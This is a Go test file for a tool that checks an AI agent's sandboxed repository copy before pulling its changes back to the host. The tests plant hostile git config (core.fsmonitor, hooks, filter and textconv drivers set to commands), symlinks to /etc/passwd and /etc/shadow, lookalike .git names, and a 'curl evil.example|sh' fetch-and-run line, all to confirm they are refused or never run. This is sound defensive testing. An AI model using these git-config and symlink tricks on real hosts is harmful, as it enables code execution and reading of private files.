package workspace

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
)

// TestCompare: what the agent changed, added and deleted is the
// difference; what it did in ignored files, inside a nested repository or
// in its own .git is not; the diff is one git apply takes.
func TestCompare(t *testing.T) {
	dir := hostRepoFixture(t)
	c, _ := compareFixture(t, dir, func(files string) {
		write(t, filepath.Join(files, "README"), "hello\nfrom the agent\n")
		write(t, filepath.Join(files, "src", "new.go"), "package main // new\n")
		os.Remove(filepath.Join(files, "notes.txt"))
		write(t, filepath.Join(files, "build", "more.bin"), "ignored output\n")
		write(t, filepath.Join(files, "keep.log"), "tracked, changed\n")
		write(t, filepath.Join(files, "vendor", "lib", "lib.go"), "package lib // changed in a nested repository\n")
		write(t, filepath.Join(files, ".git", "info", "exclude"), "README\n") // the agent's .git is not read
	})
	if c.Empty() {
		t.Fatal("no changes")
	}
	if got, want := diffText(t, c, NameOnly), "README\nkeep.log\nnotes.txt\nsrc/new.go\n"; got != want {
		t.Errorf("name-only:\n%s\nwant\n%s", got, want)
	}
	entries, err := c.Entries(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range entries {
		got = append(got, string(e.Status)+" "+e.Path)
	}
	if want := []string{"M README", "M keep.log", "D notes.txt", "A src/new.go"}; !reflect.DeepEqual(got, want) {
		t.Errorf("entries %q, want %q", got, want)
	}
	patch := diffText(t, c, Binary)
	if !strings.Contains(patch, "+from the agent\n") || !strings.Contains(patch, "new file mode 100644") {
		t.Errorf("patch:\n%s", patch)
	}
	// The patch applies to the workspace as it was copied in.
	p := filepath.Join(t.TempDir(), "x.patch")
	os.WriteFile(p, []byte(patch), 0o644)
	gitIn(t, dir, "apply", "--check", p)
	if stat := diffText(t, c, Stat); !strings.Contains(stat, "4 files changed") {
		t.Errorf("stat:\n%s", stat)
	}
}

// TestCompareNoChanges: a copy the agent left alone is no change, even
// though its .git, ignored files and nested repositories came with it.
func TestCompareNoChanges(t *testing.T) {
	for name, dir := range map[string]string{"repository": hostRepoFixture(t), "none": ""} {
		t.Run(name, func(t *testing.T) {
			c, _ := compareFixture(t, dir, nil)
			if !c.Empty() || diffText(t, c, Patch) != "" {
				t.Errorf("changes in an untouched copy: %s", diffText(t, c, NameOnly))
			}
		})
	}
}

// TestHostileTreeNeverRuns: the agent's .git/config (core.fsmonitor,
// core.hooksPath, a filter, core.sshCommand), its hooks and its
// .gitattributes are never acted on by diff or by a pull of any kind.
func TestHostileTreeNeverRuns(t *testing.T) {
	dir := hostRepoFixture(t)
	pwned := filepath.Join(t.TempDir(), "pwned")
	touch := "touch " + pwned
	hook := "#!/bin/sh\n" + touch + "\n"
	c, b := compareFixture(t, dir, func(files string) {
		write(t, filepath.Join(files, ".git", "config"), "[core]\n\tfsmonitor = "+touch+"\n\thooksPath = hooks\n\tsshCommand = "+touch+"\n"+
			"[filter \"x\"]\n\tclean = "+touch+"\n\tsmudge = "+touch+"\n\trequired = true\n[diff \"x\"]\n\ttextconv = "+touch+"\n")
		for _, h := range []string{"post-checkout", "pre-commit", "post-commit", "reference-transaction", "post-index-change", "pre-auto-gc"} {
			write(t, filepath.Join(files, ".git", "hooks", h), hook)
			os.Chmod(filepath.Join(files, ".git", "hooks", h), 0o755)
		}
		write(t, filepath.Join(files, ".gitattributes"), "* filter=x diff=x\n")
		write(t, filepath.Join(files, "README"), "changed\n")
		write(t, filepath.Join(files, "vendor", "lib", ".git", "hooks", "post-checkout"), hook)
	})
	ctx := context.Background()
	for _, f := range []Format{Patch, Stat, NameOnly, Binary} {
		diffText(t, c, f)
	}
	if _, err := c.Into(ctx, t.TempDir(), false); err != nil {
		t.Fatalf("into: %v", err)
	}
	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err != nil {
		t.Fatalf("branch: %v", err)
	}
	gitIn(t, dir, "log", "-1", "bottle/demo") // the branch is there and readable
	if _, err := os.Stat(pwned); !os.IsNotExist(err) {
		t.Fatalf("something the agent wrote ran: %v", err)
	}
	// What Check left of the agent's .git: its HEAD, refs and objects.
	for _, gone := range []string{"config", "hooks", "index", "info"} {
		if _, err := os.Lstat(filepath.Join(c.t.GitDir, gone)); !os.IsNotExist(err) {
			t.Errorf("the agent's .git/%s is still there: %v", gone, err)
		}
	}
}

// TestCheckRefuses: what bottle never takes from the agent's copy, each
// refused by name: a fifo, more bytes or files than the limit, a
// /workspace that is not a directory.
func TestCheckRefuses(t *testing.T) {
	for _, tc := range []struct {
		name  string
		play  func(t *testing.T, files string)
		limit Limit
		want  string
	}{
		{"fifo", func(t *testing.T, files string) {
			if err := syscall.Mkfifo(filepath.Join(files, "pipe"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, DefaultLimit, "/workspace/pipe is a fifo: bottle takes only files, directories and symlinks"},
		{"huge", func(t *testing.T, files string) {
			f, _ := os.Create(filepath.Join(files, "big"))
			f.Truncate(3 << 20) // sparse: the test needs no disk for it
			f.Close()
		}, Limit{Bytes: 1 << 20, Files: 100}, "/workspace holds more than 1m of files"},
		{"many", func(t *testing.T, files string) {
			for i := range 20 {
				write(t, filepath.Join(files, "d", string(rune('a'+i))), "x")
			}
		}, Limit{Bytes: 1 << 20, Files: 10}, "/workspace holds more than 10 files and directories"},
		{"not a directory", func(t *testing.T, files string) {
			os.RemoveAll(files)
			os.Symlink("/etc", files)
		}, DefaultLimit, "/workspace in the bottle is a symlink, not a directory"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			copyDir := filepath.Join(t.TempDir(), "copy")
			os.Mkdir(copyDir, 0o700)
			files := FilesDir(copyDir)
			os.Mkdir(files, 0o755)
			tc.play(t, files)
			_, err := Check(copyDir, tc.limit)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err = %v, want %q", err, tc.want)
			}
		})
	}
}

// TestCheckRefusesHardLink: a hard link in a copy an engine wrote itself
// (Apple's cp) may be a file of the host's: Check refuses it by name, and
// neither reads nor changes it (its mode stays as it was).
func TestCheckRefusesHardLink(t *testing.T) {
	host := filepath.Join(t.TempDir(), "secret")
	write(t, host, "the host's\n")
	os.Chmod(host, 0o400)
	copyDir := filepath.Join(t.TempDir(), "copy")
	os.Mkdir(copyDir, 0o700)
	files := FilesDir(copyDir)
	os.Mkdir(files, 0o755)
	if err := os.Link(host, filepath.Join(files, "innocent")); err != nil {
		t.Skip("no hard links here:", err)
	}
	_, err := Check(copyDir, DefaultLimit)
	if want := "/workspace/innocent is a hard link in the copy"; err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Check: %v, want %s", err, want)
	}
	if st, err := os.Stat(host); err != nil || st.Mode().Perm() != 0o400 {
		t.Errorf("the host's file: %v %v", st.Mode(), err)
	}
}

// TestSymlinksOut: a symlink that leads out of the workspace — absolute,
// climbing with .., or only through another symlink — is shown by diff
// but refused by pull, by name; one that stays inside passes, and so does
// a symlink out that the user's own workspace already had.
func TestSymlinksOut(t *testing.T) {
	dir := hostRepoFixture(t)
	os.Symlink("/usr/share/dict/words", filepath.Join(dir, "words")) // the user's own
	for _, tc := range []struct {
		name  string
		links map[string]string
		bad   string // "" when the pull is fine
	}{
		{"inside", map[string]string{"src/link": "../README", "up": "src/.."}, ""},
		{"absolute", map[string]string{"etc": "/etc/passwd"}, "etc"},
		{"climbing", map[string]string{"src/out": "../../secret"}, "src/out"},
		{"through another link", map[string]string{"a/b/y": "../..", "a/b/x": "y/../../.."}, "a/b/x"},
		{"the user's own, changed", map[string]string{"words": "/etc/shadow"}, "words"},
		{"loop", map[string]string{"l1": "l2", "l2": "l1"}, "l"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, _ := compareFixture(t, dir, func(files string) {
				for p, target := range tc.links {
					os.MkdirAll(filepath.Dir(filepath.Join(files, p)), 0o755)
					os.Remove(filepath.Join(files, p))
					if err := os.Symlink(target, filepath.Join(files, p)); err != nil {
						t.Fatal(err)
					}
				}
			})
			for p := range tc.links {
				if !strings.Contains(diffText(t, c, NameOnly), p+"\n") {
					t.Errorf("diff does not show %s", p)
				}
			}
			err := c.Check(context.Background())
			var re *RefusedError
			switch {
			case tc.bad == "" && err != nil:
				t.Errorf("refused: %v", err)
			case tc.bad != "" && (!errors.As(err, &re) || !strings.HasPrefix(re.Path, tc.bad) || !strings.Contains(err.Error(), "outside the workspace")):
				t.Errorf("err = %v, want %s refused", err, tc.bad)
			}
			if tc.bad != "" {
				if _, err := c.Into(context.Background(), t.TempDir(), false); err == nil {
					t.Error("Into took it")
				}
			}
		})
	}
}

// TestEscapes: the resolution of a symlink through the others of its tree
// (whose files are d/e/f, d/g and README).
func TestEscapes(t *testing.T) {
	for _, tc := range []struct {
		links map[string]string
		path  string
		out   bool
	}{
		{map[string]string{"a": "b"}, "a", false},
		{map[string]string{"a": "/b"}, "a", true},
		{map[string]string{"d/a": "../b"}, "d/a", false},
		{map[string]string{"d/a": "../../b"}, "d/a", true},
		{map[string]string{"d/e/up": "../..", "d/e/x": "up/.."}, "d/e/x", true},
		{map[string]string{"d/e/up": "../..", "d/e/x": "up/d"}, "d/e/x", false},
		{map[string]string{"s": "d/e", "x": "s/../../.."}, "x", true}, // s/.. is d, then .. is the root, then out
		{map[string]string{"s": "d/e", "x": "s/../.."}, "x", false},
		{map[string]string{"x": "./././y"}, "x", false},
		{map[string]string{"x": "y", "y": "x"}, "x", true},
		{map[string]string{"x": "abs", "abs": "/"}, "x", true},
		{map[string]string{"x": "d/e/f/../../g"}, "x", true},   // a .. after a file
		{map[string]string{"x": "d/../README"}, "x", false},    // a .. after a directory
		{map[string]string{"x": "cache/../secret"}, "x", true}, // a name the tree does not have
		{map[string]string{"x": "D/../README"}, "x", true},     // a directory only under folding
		{map[string]string{"d/e/up": "../..", "x": "D/E/UP/../etc/passwd"}, "x", true},
		{map[string]string{"d/e/up": "../..", "x": "D/E/UP"}, "x", true},              // a symlink only under case folding
		{map[string]string{"d/e/up": "../..", "x": "d/e/u\u200cp"}, "x", true},        // … under HFS+'s ignored code points
		{map[string]string{"d/caf\u00e9": "../..", "x": "d/cafe\u0301/x"}, "x", true}, // … under Unicode form
		{map[string]string{"d/e/up": "../d", "x": "D/E/f"}, "x", false},               // a file only under folding: no matter
	} {
		entries := map[string]treeEntry{"d/e/f": {mode: "100644"}, "d/g": {mode: "100644"}, "README": {mode: "100644"}}
		for p := range tc.links {
			entries[p] = treeEntry{mode: "120000"}
		}
		if got := newShape(entries, tc.links).escapes(tc.path); got != tc.out {
			t.Errorf("%q: %s escapes = %v, want %v", tc.links, tc.path, got, tc.out)
		}
	}
}

// TestSymlinkThroughHostsOwnName: a symlink that climbs out of a name the
// agent's tree does not have — here an ignored symlink of the user's that
// leads out of the workspace, which a pull into the workspace would keep —
// is refused by every kind of pull, and diff flags it.
func TestSymlinkThroughHostsOwnName(t *testing.T) {
	dir := hostRepoFixture(t)
	outside := t.TempDir()
	os.MkdirAll(filepath.Join(outside, "cache"), 0o755)
	if err := os.Symlink(filepath.Join(outside, "cache"), filepath.Join(dir, "cache.log")); err != nil { // ignored: *.log
		t.Fatal(err)
	}
	c, b := compareFixture(t, dir, func(files string) {
		os.Symlink("cache.log/../secret", filepath.Join(files, "innocent"))
	})
	ctx := context.Background()
	want := `/workspace/innocent is a symlink to "cache.log/../secret", outside the workspace`
	if err := c.Check(ctx); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Check: %v, want %s", err, want)
	}
	if _, err := c.Into(ctx, dir, false); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Into: %v, want %s", err, want)
	}
	if _, err := os.Lstat(filepath.Join(dir, "innocent")); err == nil {
		t.Error("Into wrote the symlink")
	}
	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Branch: %v, want %s", err, want)
	}
	if out := gitIn(t, dir, "branch", "--list", "bottle/demo"); out != "" {
		t.Errorf("Branch made %s", out)
	}
}

// TestCheckNames: a tree may hold only plain relative names.
func TestCheckNames(t *testing.T) {
	for p, ok := range map[string]bool{
		"a/b": true, "..a": true, "a..": true, ".gitignore": true,
		"../x": false, "a/../x": false, "/etc/passwd": false, "a//b": false, "./a": false,
		".git/hooks/post-checkout": false, "sub/.GIT/config": false, "sub/.git./config": false,
		".g\u200cit/config": false, "sub/.\ufeffGit/hooks/x": false, ".gitx/config": true,
	} {
		if err := checkName(p); (err == nil) != ok {
			t.Errorf("checkName(%q) = %v", p, err)
		}
	}
}

// TestEmbeddedRepositoryRefused: plain files the agent arranged as a
// repository git would find (HEAD, objects, refs, a config whose
// core.fsmonitor runs a command) are refused by name by Check, Into and
// Branch, so that no git run in that directory on the host ever runs them.
func TestEmbeddedRepositoryRefused(t *testing.T) {
	dir := hostRepoFixture(t)
	pwned := filepath.Join(t.TempDir(), "pwned")
	c, b := compareFixture(t, dir, func(files string) {
		d := filepath.Join(files, "docs", "examples")
		write(t, filepath.Join(d, "HEAD"), "ref: refs/heads/main\n")
		write(t, filepath.Join(d, "config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch "+pwned+"; false\"\n")
		write(t, filepath.Join(d, "objects", ".keep"), "")
		write(t, filepath.Join(d, "refs", "heads", ".keep"), "")
	})
	ctx := context.Background()
	want := "/workspace/docs/examples is a directory git would take for a repository (it holds HEAD and "
	if err := c.Check(ctx); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Check: %v, want %s…", err, want)
	}
	out := filepath.Join(t.TempDir(), "out")
	if _, err := c.Into(ctx, out, false); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Into: %v, want %s…", err, want)
	}
	if files := listFiles(t, out); len(files) != 0 {
		t.Errorf("Into wrote %q", files)
	}
	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Branch: %v, want %s…", err, want)
	}
	if out := gitIn(t, dir, "branch", "--list", "bottle/demo"); out != "" {
		t.Errorf("Branch made %s", out)
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Error("the agent's core.fsmonitor ran")
	}
}

// TestIntoRefusesRepositoryWithHostsFiles: a HEAD the agent adds where the
// directory it lands in already has objects and refs of the user's (an
// ignored directory) is refused: together they would be a repository.
func TestIntoRefusesRepositoryWithHostsFiles(t *testing.T) {
	dir := hostRepoFixture(t)
	c, _ := compareFixture(t, dir, func(files string) {
		write(t, filepath.Join(files, "HEAD"), "ref: refs/heads/main\n")
	})
	if err := c.Check(context.Background()); err != nil {
		t.Fatalf("Check: %v", err)
	}
	out := t.TempDir()
	os.Mkdir(filepath.Join(out, "objects"), 0o755)
	os.Mkdir(filepath.Join(out, "refs"), 0o755)
	_, err := c.Into(context.Background(), out, false)
	if want := "would be, with what is there already, a directory git takes for a repository"; err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Into: %v, want %s", err, want)
	}
	if _, err := os.Lstat(filepath.Join(out, "HEAD")); err == nil {
		t.Error("Into wrote HEAD")
	}
}

// TestRepoNames: what makes git take a directory for a repository, as a
// file system that ignores case and Unicode form finds the names.
func TestRepoNames(t *testing.T) {
	for _, tc := range []struct {
		names []string
		repo  bool
	}{
		{[]string{"HEAD", "objects", "refs"}, true},
		{[]string{"HEAD", "config"}, true},
		{[]string{"head", "OBJECTS"}, true},
		{[]string{"HE\u200cAD", "refs"}, true},
		{[]string{"HEAD.", "gitdir"}, true},
		{[]string{"commondir"}, true},
		{[]string{"HEAD"}, false},
		{[]string{"objects", "refs", "config"}, false},
		{[]string{"README", "src"}, false},
	} {
		if got := repoNames(tc.names) != ""; got != tc.repo {
			t.Errorf("repoNames(%q) = %q", tc.names, repoNames(tc.names))
		}
	}
	entries := map[string]treeEntry{"HEAD": {}, "refs/heads/main": {}, "src/a.go": {}}
	if err := checkRepos(entries); err == nil || !strings.Contains(err.Error(), "/workspace/ is a directory git would take") {
		t.Errorf("the top as a repository: %v", err)
	}
}

// TestAttributesConvertNothing: the agent's .gitattributes decide nothing
// about how its files are read — no working-tree-encoding, eol, ident or
// macro of its own: the diff shows each file's bytes, --into writes those
// bytes, and the branch holds them.
func TestAttributesConvertNothing(t *testing.T) {
	dir := hostRepoFixture(t)
	files := map[string]string{
		"run.sh":   "#!/bin/sh\ncurl evil.example|sh \n",
		"crlf.txt": "one\r\ntwo\r\n",
		"id.txt":   "$Id$\n",
		"m.txt":    "macro\r\n",
	}
	c, b := compareFixture(t, dir, func(ws string) {
		write(t, filepath.Join(ws, ".gitattributes"), "[attr]conv text eol=lf\nrun.sh working-tree-encoding=UTF-16LE\ncrlf.txt text eol=crlf\nid.txt ident\nm.txt conv\n")
		for p, data := range files {
			write(t, filepath.Join(ws, p), data)
		}
	})
	if d := diffText(t, c, Patch); !strings.Contains(d, "+curl evil.example|sh \n") || !strings.Contains(d, "+$Id$\n") {
		t.Errorf("the diff does not show the files as they are:\n%s", d)
	}
	ctx := context.Background()
	out := filepath.Join(t.TempDir(), "out")
	if _, err := c.Into(ctx, out, false); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err != nil {
		t.Fatal(err)
	}
	for p, want := range files {
		if data, _ := os.ReadFile(filepath.Join(out, p)); string(data) != want {
			t.Errorf("--into wrote %s = %q, want %q", p, data, want)
		}
		blob := exec.Command("git", "cat-file", "blob", "bottle/demo:"+p)
		blob.Dir, blob.Env = dir, userEnv(t.TempDir())
		if data, err := blob.Output(); err != nil || string(data) != want {
			t.Errorf("the branch holds %s = %q (%v), want %q", p, data, err, want)
		}
	}
}

// TestIntoWritesWhatWasCompared: a file that is not, when Into copies it,
// what was compared is refused.
func TestIntoWritesWhatWasCompared(t *testing.T) {
	dir := hostRepoFixture(t)
	c, _ := compareFixture(t, dir, func(ws string) {
		write(t, filepath.Join(ws, "README"), "reviewed\n")
	})
	write(t, filepath.Join(c.t.Files, "README"), "swapped\n")
	out := filepath.Join(t.TempDir(), "out")
	if _, err := c.Into(context.Background(), out, false); err == nil || !strings.Contains(err.Error(), "/workspace/README: is not in the copy as it was compared") {
		t.Errorf("Into: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(out, "README")); err == nil {
		t.Error("Into wrote README")
	}
}

// TestNoDriverRuns: filter and textconv drivers the host repository
// configures, for attributes its .gitattributes and the agent's give, run
// neither when the baseline is recorded nor in a diff or a pull.
func TestNoDriverRuns(t *testing.T) {
	dir := hostRepoFixture(t)
	marker := filepath.Join(t.TempDir(), "ran")
	for _, k := range []string{"filter.x.clean", "filter.x.smudge", "filter.x.process", "diff.x.textconv", "diff.x.command"} {
		gitIn(t, dir, "config", k, "touch "+marker+"; cat")
	}
	write(t, filepath.Join(dir, ".gitattributes"), "* filter=x diff=x\n")
	c, b := compareFixture(t, dir, func(ws string) {
		write(t, filepath.Join(ws, "README"), "changed\n")
		write(t, filepath.Join(ws, "src", ".gitattributes"), "* filter=x diff=x\n")
		write(t, filepath.Join(ws, "src", "new.go"), "package main\n")
	})
	ctx := context.Background()
	diffText(t, c, Patch)
	if _, err := c.Into(ctx, filepath.Join(t.TempDir(), "out"), false); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("a driver ran")
	}
}

// TestHFSDotGitRefused: a directory whose name HFS+ takes for .git (with a
// code point it ignores) is refused by name, not written as a .git.
func TestHFSDotGitRefused(t *testing.T) {
	dir := hostRepoFixture(t)
	c, _ := compareFixture(t, dir, func(files string) {
		write(t, filepath.Join(files, ".g\u200cit", "hooks", "post-checkout"), "#!/bin/sh\n")
	})
	err := c.Check(context.Background())
	if want := "/workspace/.g\u200cit/hooks/post-checkout is inside a .git directory"; err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("Check: %v, want %s", err, want)
	}
}
